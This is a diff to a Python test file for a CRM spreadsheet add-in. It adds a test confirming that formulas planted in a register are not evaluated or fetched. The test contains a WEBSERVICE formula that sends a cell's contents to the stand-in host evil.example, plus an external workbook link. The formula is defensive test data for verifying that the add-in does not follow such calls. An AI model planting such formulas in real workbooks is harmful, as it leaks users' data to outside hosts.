@@ -16,6 +16,7 @@ from crm_app.cli import main
 from crm_app.register_schema import ABOUT, AUDIT, LEDGER, REALLOCATION, REGISTER, TEMPLATE_VERSION
 from crm_app.workflow import verify
 from crm_app.workflow_io import load_register, read_request_form
+from crm_core.issues import IssueCode
 from tests.test_macros import FakeBook, alerts
 from tests.test_workflow_helpers import REFERENCE_BATCH, ROLES, build_register, write_request
 
@@ -341,3 +342,18 @@ def test_register_copy_with_a_backup_and_the_original_both_verify(applied, tmp_p
     copy = tmp_path / "restored.xlsx"
     shutil.copy(backup, copy)
     assert verify(copy) == [] and verify(applied) == []
+
+
+def test_a_register_is_read_as_values_external_links_and_web_calls_are_not_followed(tmp_path):
+    """Formulas planted in a register are never evaluated by the add-in: without a cached value
+    the cell is reported blank, and nothing is fetched."""
+    register = build_register(tmp_path / "register.xlsx")
+
+    def plant(book):
+        book[REGISTER]["M4"] = "='[other.xlsx]Sheet1'!$A$1"                     # B5's credit line
+        book[REGISTER]["B5"] = '=WEBSERVICE("http://evil.example/?x="&A5)'     # B117's name
+    edit(register, plant)
+    problems = {(p.code, p.source, p.row, p.column) for p in verify(register)}
+    assert (IssueCode.BLANK, REGISTER, 4, "赊销额度 Credit line") in problems
+    assert WorkflowCode.BUDGET_MISMATCH in {p[0] for p in problems}
+    assert main(["verify", str(register)]) == 1
